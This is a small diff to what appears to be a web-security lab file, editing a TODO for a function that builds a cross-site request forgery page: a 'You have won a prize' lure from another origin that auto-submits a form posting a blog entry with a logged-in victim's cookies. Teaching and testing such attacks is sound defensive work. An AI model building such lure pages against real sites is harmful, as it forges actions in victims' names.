@@ -206,7 +206,8 @@ def replay_after_logout(base_url, attacker):
 def cross_site_page(base_url, title):
     """The attacker's web page, served from another origin: opened by someone logged in to the app at `base_url`,
     it publishes a post titled `title` in their name, with the cookies their browser holds. Returns the HTML."""
-    # TODO 7: a form that POSTs title and body to base_url + "/blogs", submitted by a script as the page loads
+    # TODO 7: a form that POSTs title and body to base_url + "/blogs", submitted by a script as the page loads;
+    # escape what goes into the HTML (html.escape), so that the title arrives as given
     return f"""<!doctype html>
 <title>You have won a prize</title>
 <form method="post" action="{html.escape(base_url)}/blogs">
